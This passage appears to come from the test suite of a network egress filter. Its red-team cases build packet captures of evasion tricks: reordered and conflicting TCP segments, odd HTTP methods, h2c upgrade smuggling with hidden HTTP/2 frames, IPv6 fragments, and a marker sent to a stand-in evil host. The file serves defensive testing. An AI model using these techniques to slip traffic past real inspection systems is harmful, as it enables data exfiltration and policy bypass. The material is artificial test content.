    seg(True, marked_record(passm(n), n + "req", 200))
    seg(False, tls_appdata(n + "resp", 700))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_mptcp_ghost_syn(n):
    """(Red team round 12) ghost_syn_evil with MP_CAPABLE on the first SYN, whose checksum
    is wrong: stripping it must keep the sum wrong (RFC 1624 updates the sum as it is),
    or the server would take that SYN. An e2m hello at its place, plaintext at the real
    SYN's. Must drop."""
    cap = Capture()
    t = ETcp(cap, S1, 54725, E2M, 443, isn=54725, rtt_us=20000)
    isn1 = (54725 + 0x50000000) & M32
    t.raw(True, "S", seq=isn1, options=ETcp.SYN_OPTS + [MPC_V1], tcpkw={"chksum": 0xDEAD})
    t.handshake()
    t.raw(True, "PA", hello(n + "ghost"), seq=(isn1 + 1) & M32)
    t.ack(False)
    for i in range(3):
        t.data(True, b"GET /up%d HTTP/1.1\r\nHost: " % i + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ gaps before the verdict
@case
def case_rt12_e2m_reorder_resend_ok(n):
    """(Red team round 12) Must-allow: an e2m ClientHello in two segments, the second
    overtaking the first (dropped: past a gap before the verdict), the first, the server's
    ACK of it, the second again (the client's retransmission), then the session."""
    cap = Capture()
    t = ETcp(cap, S1, 54730, E2M, 443, isn=54730, rtt_us=20000)
    t.handshake()
    h = hello(n)
    base = t.cseq
    t.raw(True, "PA", h[100:], seq=base + 100)
    t.raw(True, "PA", h[:100], seq=base)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", h[100:], seq=base + 100, gap=250000)
    t.cseq = base + len(h)
    t.raw(False, "A")
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 700))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_office_reorder_get_ok(n):
    """(Red team round 12) Must-allow: office GET for www.example.org in two segments, the
    second first (dropped), the first, the server's ACK, the second again."""
    cap = Capture()
    t = ETcp(cap, O1, 54731, SOC, 80, isn=54731, rtt_us=20000)
    t.handshake()
    req = http_req(b"www.example.org", passm(n))
    base = t.cseq
    t.raw(True, "PA", req[30:], seq=base + 30)
    t.raw(True, "PA", req[:30], seq=base)
    t.raw(False, "A", ack=base + 30)
    t.raw(True, "PA", req[30:], seq=base + 30, gap=250000)
    t.cseq = base + len(req)
    t.raw(False, "A")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_office_reorder_fb(n):
    """(Red team round 12) Office: a www.facebook.com ClientHello whose second segment
    overtakes the first, then the first, then the second again. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54732, SOC, 443, isn=54732, rtt_us=20000)
    t.handshake()
    h = hello(n, sid=sid32(leak(n)), sni=FB)
    base = t.cseq
    t.raw(True, "PA", h[100:], seq=base + 100)
    t.raw(True, "PA", h[:100], seq=base)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", h[100:], seq=base + 100, gap=250000)
    t.cseq = base + len(h)
    t.raw(False, "A")
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_office_gap_host_vk(n):
    """(Red team round 12) Office: the first request's head cut before its Host line
    (m.vk.com); the second piece first (the marker in it), then the first, then the
    second again. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54733, SOC, 80, isn=54733, rtt_us=20000)
    t.handshake()
    req = b"GET /feed HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    cut = req.index(b"Host")
    base = t.cseq
    t.raw(True, "PA", req[cut:], seq=base + cut)
    t.raw(True, "PA", req[:cut], seq=base)
    t.raw(False, "A", ack=base + cut)
    t.raw(True, "PA", req[cut:], seq=base + cut, gap=250000)
    t.cseq = base + len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ HTTP methods
def _rt12_methods(n, port, method, reqs=6, ver=b"HTTP/1.1", extra=b""):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    for i in range(reqs):
        t.data(True, method + b" /%d " % i + ver + b"\r\nHost: www.example.org\r\n" + extra
               + b"User-Agent: curl/8.5.0\r\n\r\n")
        t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_method_digit_vk(n):
    """(Red team round 12) Six requests whose method is "M2" (a token: RFC 9110 5.6.2 takes
    digits; Go's net/http, Apache and Cloudflare take it, a Go server's handler answers
    405 on a kept connection), then a GET for m.vk.com. hs_method_byte takes letters, '-'
    and '_' only: the first payload is no HTTP start and the flow is never read. Must
    drop (social)."""
    return _rt12_methods(n, 54740, b"M2")


@case
def case_rt12_method_tchar_vk(n):
    """(Red team round 12) The same with the method "X.Y!" (tchar: '.', '!'). Must drop."""
    return _rt12_methods(n, 54741, b"X.Y!")


@case
def case_rt12_method_9k_vk(n):
    """(Red team round 12) The same with a method of 9000 letters (past HS_METHOD_MAX; Go
    reads a request line up to its 1 MiB header limit). Must drop (social)."""
    return _rt12_methods(n, 54742, b"A" * 9000, reqs=2)


@case
def case_rt12_method_long_split_vk(n):
    """(Red team round 12) The first request's method is 3000 letters, cut into three
    segments before its first space; its Host is m.vk.com (the marker after it). Must
    drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54743, SOC, 80, isn=54743 * 7, rtt_us=20000)
    t.handshake()
    req = b"A" * 3000 + b" /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    for o in range(0, len(req), 1000):
        t.raw(True, "PA", req[o:o + 1000], seq=t.cseq + o)
    t.cseq += len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_http10_ka_vk(n):
    """(Red team round 12) Five HTTP/1.0 requests with Connection: keep-alive (answered
    with Content-Length), then a GET for m.vk.com. Must drop (social)."""
    return _rt12_methods(n, 54744, b"GET", reqs=5, ver=b"HTTP/1.0", extra=b"Connection: keep-alive\r\n")


@case
def case_rt12_webdav_ok(n):
    """(Red team round 12) Must-allow: WebDAV and DeltaV methods (MKWORKSPACE,
    VERSION-CONTROL, PROPFIND, BASELINE-CONTROL) for www.example.org, then a GET."""
    cap = Capture()
    t = ETcp(cap, O1, 54745, SOC, 80, isn=54745 * 7, rtt_us=20000)
    t.handshake()
    for m in (b"MKWORKSPACE", b"VERSION-CONTROL", b"PROPFIND", b"BASELINE-CONTROL"):
        t.data(True, m + b" /dav/ HTTP/1.1\r\nHost: www.example.org\r\nDepth: 1\r\nContent-Length: 0\r\n\r\n")
        t.data(False, b"HTTP/1.1 207 Multi-Status\r\nContent-Length: 0\r\n\r\n")
    t.data(True, http_req(b"www.example.org", passm(n)))
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_method_pipe_vk(n):
    """(Red team round 12) The first payload: a FOO_BAR request for www.example.org and,
    pipelined behind it, a GET for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54746, SOC, 80, isn=54746 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"FOO_BAR / HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ upgrades
H2C_UP = (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
          b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n")


@case
def case_rt12_h2c_declined_vk(n):
    """(Red team round 12) Office: a GET for www.example.org asking Upgrade: h2c; the server
    declines (200 in HTTP/1.1, as nginx does); the next request on the connection is a
    GET for m.vk.com in HTTP/1.1. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54750, SOC, 80, isn=54750 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    _ok_answer(t, n + "a", mark=False)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_h2c_smuggle_vk(n):
    """(Red team round 12) The Upgrade: h2c request and a GET for m.vk.com pipelined in one
    segment; the server declines the upgrade and serves both. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54751, SOC, 80, isn=54751 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n" + _rtk_vk_req(n))
    _ok_answer(t, n + "a", mark=False)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _rt12_h2_headers(stream, authority, marker):
    hb = (b"\x82\x86\x84" + b"\x01" + bytes([len(authority)]) + authority
          + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)
    return h2_frame(1, 5, stream, hb)


@case
def case_rt12_h2c_101_split_vk(n):
    """(Red team round 12) Upgrade: h2c answered 101 (Apache mod_http2, h2o); the client's
    preface cut after "PRI * HTTP/2.0\\r\\n", the rest with SETTINGS and a HEADERS frame on
    stream 3 for m.vk.com in the next segment. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54752, SOC, 80, isn=54752 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, b"PRI * HTTP/2.0\r\n")
    t.data(True, b"\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_h2c_101_ok(n):
    """(Red team round 12) Must-allow: Upgrade: h2c answered 101, the preface and a HEADERS
    frame on stream 3 for www.example.org, the server's DATA with the marker."""
    cap = Capture()
    t = ETcp(cap, O1, 54753, SOC, 80, isn=54753 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, passm(n)))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_ws_declined_vk(n):
    """(Red team round 12) A WebSocket upgrade for www.example.org that the server ignores
    (200, HTTP/1.1 goes on: nginx without proxy upgrade config), then a GET for m.vk.com.
    Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54754, SOC, 80, isn=54754 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           b"Sec-WebSocket-Version: 13\r\n\r\n")
    _ok_answer(t, n + "a", mark=False)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_ws_declined_digit_vk(n):
    """(Red team round 12) The same, then a request with the method "M2" (a token: Go's
    net/http serves it, 405 on a kept connection): to our reading the bytes after an
    upgrade that start no request are a tunnel, read no further. Then the GET for
    m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54755, SOC, 80, isn=54755 * 7, rtt_us=20000)
    t.handshake()
    for i in range(5):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        _ok_answer(t, n + "k%d" % i, mark=False)
    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           b"Sec-WebSocket-Version: 13\r\n\r\n")
    _ok_answer(t, n + "a", mark=False)
    t.data(True, b"M2 / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_late_digit_vk(n):
    """(Red team round 12) Five GETs for www.example.org (the verdict given), then a "M2"
    request (Go: 405, kept alive), then a GET for m.vk.com. Must drop (social)."""
    cap, t = ka_flow(n, 54756, reqs=5)
    t.data(True, b"M2 / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ IPv6 fragments
@case
def case_rt12_frag6_atomic_vk(n):
    """(Red team round 12) Office IPv6: the GET for m.vk.com in an atomic fragment (offset
    0, M clear: RFC 6946, taken as a whole packet). Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O6, 54760, SOC6, 80, isn=54760 * 7, rtt_us=20000)
    t.handshake()
    req = _rtk_vk_req(n)
    pkt = IPv6(bytes(IPv6(src=O6, dst=SOC6) / TCP(sport=54760, dport=80, flags="PA", seq=t.cseq,
                                                    ack=t.sseq, window=64240) / Raw(req)))
    cap.emit(l2(O6, SOC6) / IPv6(src=O6, dst=SOC6) / IPv6ExtHdrFragment(nh=6, offset=0, m=0, id=0x7777)
             / Raw(bytes(pkt.payload)), 300)
    t.cseq += len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ the twenty-second session: h2c after a 101

@case
def case_rt12_h2c_101_late_vk(n):
    """(The twenty-second session, after rt12_h2c_101_ok) Upgrade: h2c answered 101, the
    preface and a HEADERS frame on stream 3 for www.example.org, then, in later segments,
    DATA on stream 3 and a HEADERS frame on stream 5 for m.vk.com (a server serves each
    stream's :authority). The stream is read on as h2c after the preface
    (judge_h2w_upgrade). Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54605, SOC, 80, isn=54605 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok" * 50))
    t.data(True, h2_frame(0, 1, 3, b"y" * 300))
    t.data(True, _rt12_h2_headers(5, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_h2c_101_badpreface_vk(n):
    """(The twenty-second session) Upgrade: h2c answered 101, then a preface with other
    bytes in its last line ("PRI * HTTP/2.0\\r\\n\\r\\nXY\\r\\n\\r\\n") and frames
    for m.vk.com. A server closes on a wrong preface; we check what lies in the segment
    and refuse it. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 54606, SOC, 80, isn=54606 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nXY\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_h2c_101_bytes_ok(n):
    """(The twenty-second session) Must-allow: curl --http2 on http:// with a POST: the
    upgrade request carries a 40-byte body, the server answers 101, the preface cut in
    two segments (after "PRI * HT"), SETTINGS, a HEADERS frame on stream 3 for
    www.example.org with DATA, and the server's DATA with the marker."""
    cap = Capture()
    t = ETcp(cap, O1, 54607, SOC, 80, isn=54607 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 40\r\n" + H2C_UP
           + b"\r\n" + b"b" * 40)
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, b"PRI * HT")
    t.data(True, b"TP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + _rt12_h2_headers(3, b"www.example.org", b"x") + h2_frame(0, 1, 3, b"d" * 100))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ red team round 13
# (the twenty-second session) SYN normalisation, token methods, h2c after an
# upgrade's 101, header logs held by either side's entries.

def _rt13_h2_hidden(length):
    """A 9-byte HTTP/2 frame header of an unknown type (0xfa, to be ignored: RFC 9113
    4.1, 5.5) on stream 0 whose payload is `length` bytes long."""
    return struct.pack("!I", length)[1:] + b"\xfa\x00" + struct.pack("!I", 0)


_RT13_101 = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
_RT13_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@case
def case_rt13_h2c_body_pri_vk(n):
    """(Red team round 13) Office: after four answered GETs (the verdict given), a POST
    for www.example.org on the kept connection asking Upgrade: h2c with a
    33-byte body (Content-Length: 33) sent in its own segment after the head (a second
    write), followed in that segment by the real preface, SETTINGS and a HEADERS frame
    on stream 3 for m.vk.com. The body holds a preface and the 9-byte header of a frame
    of an unknown type whose length covers everything after the body. A server that
    takes an upgrade with a body (RFC 7540 3.2: the body is stream 1's, read whole
    before the 101; Go's h2c handler drains it since CVE-2022-41721) reads the body as
    body, then the real preface and the HEADERS for m.vk.com. A reader that takes the
    body's "PRI" as the preface skips the real one as the unknown frame's payload. Must
    drop (social)."""
    cap, t = ka_flow(n, 54800, reqs=4)
    real = _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n))
    body = _RT13_PREFACE + _rt13_h2_hidden(len(real))
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n" % len(body)
           + H2C_UP + b"\r\n")
    t.data(True, body + real)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_h2c_body_pri_first_vk(n):
    """(Red team round 13) The same in the first payload: the upgrade head, its 33-byte
    body (a preface and an unknown frame's header covering what follows), the real
    preface and a HEADERS frame on stream 3 for m.vk.com, in one segment, before the
    verdict (the first-bytes slot looks for a preface right after the head, not after
    its body). Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54802, SOC, 80, isn=54802 * 7, rtt_us=20000)
    t.handshake()
    real = _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n))
    body = _RT13_PREFACE + _rt13_h2_hidden(len(real))
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n" % len(body)
           + H2C_UP + b"\r\n" + body + real)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_h2c_body_seg_ok(n):
    """(Red team round 13) Must-allow: curl --http2 -d @file on http:// (a POST asking
    Upgrade: h2c): the head, then its 40-byte body in a second segment, the 101, the
    preface with SETTINGS and a HEADERS frame on stream 3 for www.example.org, and the
    server's DATA with the marker."""
    cap = Capture()
    t = ETcp(cap, O1, 54801, SOC, 80, isn=54801 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 40\r\n" + H2C_UP + b"\r\n")
    t.data(True, b"q=" + b"b" * 38)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt13_h2c_1byte_preface_vk(n):
    """(Red team round 13) Upgrade: h2c answered 101; the client's preface one byte a
    segment (each kept and joined), then SETTINGS and a HEADERS frame on stream 3 for
    m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54803, SOC, 80, isn=54803 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    for i in range(len(_RT13_PREFACE)):
        t.data(True, _RT13_PREFACE[i:i + 1])
    t.data(True, h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_h2c_retx_diff_vk(n):
    """(Red team round 13) Upgrade: h2c answered 101; the preface, SETTINGS and a HEADERS
    frame on stream 3 for www.example.org, lost after us (no ACK), then the client's
    copy at the same sequence number, of the same length, with a HEADERS frame for
    m.vk.com instead. The server reads the second copy. The request log must compare
    the copies. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 54804, SOC, 80, isn=54804 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    lk = leak(n)
    good = _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(
        3, b"www.example.org", b"x" * (8 + len(lk) - 15))
    bad = _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", lk)
    assert len(good) == len(bad)
    t.raw(True, "PA", good)
    t.raw(True, "PA", bad, gap=250000)
    t.cseq += len(bad)
    t.raw(False, "A")
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, lk))
    t.close()
    return cap, {"leak": [lk]}


@case
def case_rt13_h2c_pipe_get_up_vk(n):
    """(Red team round 13) One segment: a GET for www.example.org, then a GET asking
    Upgrade: h2c, then (not waiting for the 101: Go's h2c handler reads it) the preface,
    SETTINGS and a HEADERS frame on stream 3 for m.vk.com. The server answers the first,
    switches on the second. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54805, SOC, 80, isn=54805 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /a HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
           + b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n"
           + _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    _ok_answer(t, n + "a", mark=False)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_h2c_up_head_cut_vk(n):
    """(Red team round 13) After two answered GETs (the verdict given), an upgrade head cut
    inside its Connection line (kept), its rest, the preface, SETTINGS and a HEADERS frame
    on stream 3 for m.vk.com in the next segment; the server answers 101. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54806, SOC, 80, isn=54806 * 7, rtt_us=20000)
    t.handshake()
    for i in range(2):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        _ok_answer(t, n + "k%d" % i, mark=False)
    head = b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n"
    t.data(True, head[:50])
    t.data(True, head[50:] + _RT13_PREFACE + h2_frame(4, 0, 0, b"")
           + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt13_h2c_up_cont_vk(n):
    """(Red team round 13) Upgrade: h2c answered 101; a HEADERS frame on stream 3 for
    www.example.org answered, then a HEADERS frame on stream 5 without END_HEADERS (its
    :method, :scheme, :path) and a CONTINUATION with :authority m.vk.com, the frame
    header and its payload in separate segments. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54808, SOC, 80, isn=54808 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
    lk = leak(n)
    rest = b"\x01\x08m.vk.com" + b"\x00\x06x-mark" + bytes([len(lk)]) + lk
    cont = h2_frame(9, 4, 5, rest)
    t.data(True, h2_frame(1, 1, 5, b"\x82\x86\x84") + cont[:9])
    t.data(True, cont[9:])
    t.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, lk))
    t.close()
    return cap, {"leak": [lk]}


def _rt13_h2c_up_conn(cap, src, port, isn, mark, rtt=200):
    c = ETcp(cap, src, port, SOC, 80, isn=isn, rtt_us=rtt)
    c.handshake()
    c.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    c.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    c.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"www.example.org", mark))
    return c


@case
def case_rt13_h2c_up_slots_dos_ok(n):
    """(Red team round 13) Must-allow (denial of service): 24 office addresses of one
    insider (10.20.9.1-24: secondary addresses of one host, or the gRPC pools of a few
    colleagues' machines in clear against an outside h2c server) each keep 10 upgraded
    h2c connections open after one request. A worker takes 8 of them per address
    (WORKER_H2W_PER_SRC), and IPv4 addresses share no cap (an IPv6 /64 does): 8
    addresses on a worker hold all its 64 worker_h2w slots. Then an honest office host's
    curl --http2 on http:// (Upgrade: h2c answered 101, a request on stream 3 for
    www.example.org): no slot at its preface, judge_h2w_upgrade refuses it whatever the
    zone (exception:classifier_alloc), for as long as the pools stay open. Must
    allow."""
    cap = Capture()
    k = 0
    for a in range(24):
        for i in range(10):
